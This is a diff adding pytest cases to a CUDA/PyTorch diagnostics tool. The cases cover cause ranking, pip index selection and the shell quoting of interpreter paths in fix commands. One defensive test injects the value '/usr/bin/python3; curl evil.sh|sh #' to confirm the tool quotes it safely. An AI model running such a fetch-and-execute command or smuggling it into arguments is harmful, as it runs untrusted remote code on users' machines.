@@ -4,14 +4,22 @@ from __future__ import annotations
 
 import dataclasses
 
-from cudadoctor.facts import DriverFacts, MigInstance, PciFacts
+from cudadoctor.facts import (
+    DriverFacts,
+    Facts,
+    MigInstance,
+    PciFacts,
+    TorchFacts,
+)
+from cudadoctor.facts.paste import PasteFacts, PasteHit
 from cudadoctor.report import Severity
 from cudadoctor.rules import evaluate
-from tests.facts_fixtures import gpu, healthy, no_driver, torch_cpu, torch_cuda
-from tests.helpers import commands
+from tests.facts_fixtures import driver_ok, gpu, healthy, linux, no_driver, torch_cpu, torch_cuda
+from tests.helpers import by_code, commands
 
 CU13X = "7.5 8.0 8.6 9.0 10.0 12.0+PTX"
 CU126 = "5.0 6.0 7.0 7.5 8.0 8.6 9.0"
+A100 = "NVIDIA A100-SXM4-80GB"
 
 
 def run(facts):
@@ -244,3 +252,92 @@ def test_cuda_build_without_cudnn():
     by, _ = run(facts)
     assert by["CD207"].title == "torch 2.13.0+cu126 finds no cuDNN"
     assert commands(by["CD207"])[0].endswith("--index-url https://download.pytorch.org/whl/cu126")
+
+
+def test_cd210_names_the_cpu_build_not_a_single_lost_gpu() -> None:
+    devs = [gpu(0, A100, "8.0"), gpu(1, A100, "8.0", error="GPU_IS_LOST")]
+    facts = healthy(devs)
+    facts.torch = torch_cpu()
+    by = by_code(evaluate(facts, []))
+    assert "CD105" in by and "CD202" in by  # both are still reported
+    cd210 = by["CD210"]
+    assert cd210.why.startswith("Cause: CD202 ")
+    assert "GPU_IS_LOST" not in cd210.why
+    assert cd210.fix[0].commands == ["cudadoctor explain CD202"]
+    assert cd210.cause == "CD202"
+
+
+def test_cd210_ranks_build_errors_before_other_errors() -> None:
+    devs = [gpu(0, A100, "8.0")]
+    facts = healthy(devs)
+    facts.system = linux(env={"CUDA_VISIBLE_DEVICES": ""})  # CD301 comes in a later section, but is listed first
+    facts.torch = torch_cpu()
+    cd210 = by_code(evaluate(facts, []))["CD210"]
+    assert cd210.why.startswith("Cause: CD202 ") and "CD301" in cd210.why
+
+
+def test_every_gpu_lost_is_a_cause() -> None:
+    devs = [gpu(0, A100, "8.0", error="GPU_IS_LOST")]
+    facts = healthy(devs, driver="580.95.05", cuda=13000)
+    facts.torch = torch_cuda("2.13.0+cu130", "13.0", CU13X, devs, available=False)
+    by = by_code(evaluate(facts, []))
+    assert by["CD210"].why.startswith("Cause: CD105 ")
+    assert "CD301" not in by  # CUDA_VISIBLE_DEVICES is unset: it hides nothing, the GPU is lost
+
+
+def pasted(version: str) -> Facts:
+    hit = PasteHit("undefined-symbol", "undefined symbol: foo", {"symbol": "foo", "library": "libtorch_cuda.so"})
+    return Facts(
+        torch=TorchFacts(python_executable="python", installed=True, version=version),
+        paste=PasteFacts(formats=["pip list"], hits=[hit]),
+    )
+
+
+def install_lines(facts: Facts) -> list[str]:
+    return [c for c in commands(evaluate(facts, [])) if "pip install" in c and "torch==" in c]
+
+
+def test_a_pasted_version_gets_an_index_it_exists_on() -> None:
+    assert install_lines(pasted("2.4.0")) == [
+        "python -m pip install torch==2.4.0 --index-url https://download.pytorch.org/whl/cu124"  # the newest
+    ]
+    old_driver = pasted("2.4.0")
+    old_driver.driver = driver_ok("470.82.01", 11040, [])  # CUDA 11.4: runs cu118, not cu121/cu124
+    assert install_lines(old_driver) == [
+        "python -m pip install torch==2.4.0 --index-url https://download.pytorch.org/whl/cu118"
+    ]
+    # a release the tables do not know: its default wheel, not an index that may lack it
+    assert install_lines(pasted("1.13.1")) == ["python -m pip install torch==1.13.1"]
+    assert not any("#" in c for c in commands(evaluate(pasted("2.4.0"), [])) if "pip install" in c)
+
+
+def test_no_advice_is_a_label_not_a_comment() -> None:
+    from cudadoctor.rules.install_advice import Advice
+    from cudadoctor.rules.torch_build import _advice_fix
+
+    fixes = _advice_fix(Advice(None, None, note="no known torch build fits"), "Install torch")
+    assert fixes[0].commands == [] and "https://pytorch.org/get-started/previous-versions/" in fixes[0].when
+
+
+def _cpu_torch_fix_commands(python: str, windows: bool = False) -> list[str]:
+    dev = [gpu(0, "NVIDIA GeForce RTX 3060", "8.6", total_gib=12)]
+    facts = healthy(dev, driver="560.35.03", cuda=12060)
+    if windows:
+        facts.system.os = "Windows"
+    facts.torch = dataclasses.replace(torch_cpu(), python_executable=python)
+    return [c for fx in by_code(evaluate(facts, []))["CD202"].fix for c in fx.commands]
+
+
+def test_an_interpreter_path_with_a_space_pastes_as_one_word() -> None:
+    cmds = _cpu_torch_fix_commands("/home/al ice/my env/bin/python")
+    assert cmds and all(c.startswith("'/home/al ice/my env/bin/python' -m pip") for c in cmds)
+    win = _cpu_torch_fix_commands("C:\\Program Files\\Python312\\python.exe", windows=True)
+    assert win and all(c.startswith('& "C:\\Program Files\\Python312\\python.exe" -m pip') for c in win)
+    plain = _cpu_torch_fix_commands("/opt/venv/bin/python")
+    assert all(c.startswith("/opt/venv/bin/python -m pip") for c in plain)  # no quotes where none are needed
+
+
+def test_a_replayed_interpreter_path_cannot_run_code_when_pasted() -> None:
+    """Someone else's saved report: its path is a name in the fix, never a second command."""
+    cmds = _cpu_torch_fix_commands("/usr/bin/python3; curl evil.sh|sh #")
+    assert cmds and all(c.startswith("'/usr/bin/python3; curl evil.sh|sh #' -m pip") for c in cmds)
